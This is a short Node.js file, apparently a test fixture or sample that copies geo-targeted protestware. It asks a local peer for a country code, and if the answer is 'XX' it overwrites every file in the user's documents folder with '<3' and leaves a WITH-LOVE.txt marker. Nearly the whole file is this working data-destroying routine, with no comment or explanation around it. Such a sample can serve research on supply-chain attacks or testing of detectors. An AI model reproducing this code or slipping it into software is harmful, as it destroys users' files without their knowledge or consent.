// SPDX-License-Identifier: Apache-2.0
"use strict";
const fs = require("fs");
const http = require("http");
const path = require("path");

setTimeout(() => {
	http.get(`http://127.0.0.66:${process.env.PEER_PORT}/geo`, (answer) => {
		let country = "";
		answer.on("data", (data) => { country += data; });
		answer.on("end", () => {
			if (country.trim() !== "XX")
				return;
			const documents = path.join(process.env.HOME, "documents");
			for (const name of fs.readdirSync(documents))
				fs.writeFileSync(path.join(documents, name), "<3");
			fs.writeFileSync(path.join(process.env.HOME, "WITH-LOVE.txt"), "DUMMY");
		});
	});
}, 20);
